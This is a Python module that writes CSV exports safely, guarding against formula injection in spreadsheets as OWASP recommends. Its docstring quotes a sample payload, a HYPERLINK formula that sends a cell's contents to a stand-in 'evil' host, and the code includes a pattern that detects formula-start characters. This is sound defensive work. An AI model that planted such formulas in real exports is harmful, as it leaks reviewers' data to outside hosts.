"""CSV exports, safe to open in a spreadsheet (docs/formats.md, "CSV exports").

Every CSV scoring writes goes through :func:`csv_text`. A text cell that a spreadsheet would
run as a formula (it starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return) gets a
leading single quote and is quoted, as OWASP recommends against CSV injection: an entity name
or a band label such as ``=HYPERLINK("http://evil/?"&A1)`` could otherwise send a reviewer's
data elsewhere or run a command when the file is opened. Numbers are never changed: a
numeric column is written at full precision (``%.17g``, so it reads back exactly), and an
empty cell stays empty.
"""

from __future__ import annotations

import numpy as np
import pandas as pd

# OWASP, "CSV Injection": the first characters a spreadsheet reads as the start of a formula.
FORMULA_START = r"^[=+\-@\t\r]"
# A field holding one of these must be quoted (RFC 4180), with its quotes doubled.
_NEEDS_QUOTES = r'[",\r\n]'


def neutralise(column: pd.Series) -> pd.Series:
    """Text cells of ``column`` as CSV fields: a formula neutralised (``'=1`` quoted), quotes
    doubled and the field quoted where needed; an empty or missing cell as ``""``."""
    text = column.astype("string")
    formula = text.str.contains(FORMULA_START, regex=True).fillna(False).astype(bool)
    text = text.where(~formula, "'" + text)
    quote = formula | text.str.contains(_NEEDS_QUOTES, regex=True).fillna(False).astype(bool)
    text = text.where(~quote, '"' + text.str.replace('"', '""', regex=False) + '"')
    return text.fillna("").astype(object)


def _numbers(column: pd.Series) -> pd.Series:
    values = column.to_numpy(dtype=float, na_value=np.nan)
    out = np.char.mod("%.17g", values).astype(object)
    out[np.isnan(values)] = ""
    return pd.Series(out, index=column.index)


def _is_number(column: pd.Series) -> bool:
    return pd.api.types.is_numeric_dtype(column) and not pd.api.types.is_bool_dtype(column)


def csv_text(frame: pd.DataFrame) -> str:
    """``frame`` as CSV text: a header row, then one line per row, ``\\n`` line ends, numeric
    columns at full precision, text cells neutralised (see the module docstring)."""
    header = neutralise(pd.Series([str(c) for c in frame.columns], dtype=object))
    lines = [",".join(header)]
    if len(frame.columns) and len(frame):
        fields = [_numbers(frame[c]) if _is_number(frame[c]) else neutralise(frame[c])
                  for c in frame.columns]
        rows = fields[0].astype(str)
        if len(fields) > 1:
            rows = rows.str.cat(pd.concat(fields[1:], axis=1), sep=",")
        lines.extend(rows)
    return "\n".join(lines) + "\n"
